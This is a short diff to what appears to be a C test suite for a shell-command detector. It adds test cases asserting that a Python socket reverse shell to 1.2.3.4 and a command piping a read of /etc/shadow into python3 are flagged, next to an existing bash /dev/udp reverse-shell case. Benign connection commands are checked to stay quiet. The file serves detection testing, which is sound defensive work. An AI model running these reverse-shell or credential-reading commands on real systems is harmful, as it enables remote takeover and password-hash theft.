@@ -232,6 +232,11 @@ TEST(shell_reverse_shells)
 		  "reverse-shell", CONF_HIGH));
 	ASSERT_TRUE(
 	    fires("bash -c 'bash -i >& /dev/udp/1.2.3.4/53 0>&1'", "reverse-shell", CONF_HIGH));
+	ASSERT_TRUE(fires("python3 - <<'EOF'\nimport socket,os\ns=socket.socket()\n"
+			  "s.connect(('1.2.3.4',9))\nos.dup2(s.fileno(),0)\nEOF\n",
+			  "reverse-shell", CONF_HIGH));
+	ASSERT_TRUE(fires("echo \"print(open('/etc/shadow').read())\" | python3", "credential-read",
+			  CONF_HIGH));
 	/* a plain client connection is not a shell */
 	ASSERT_TRUE(quiet("nc -zv db.internal 5432"));
 	ASSERT_TRUE(quiet("python3 -c 'import socket; print(socket.gethostname())'"));
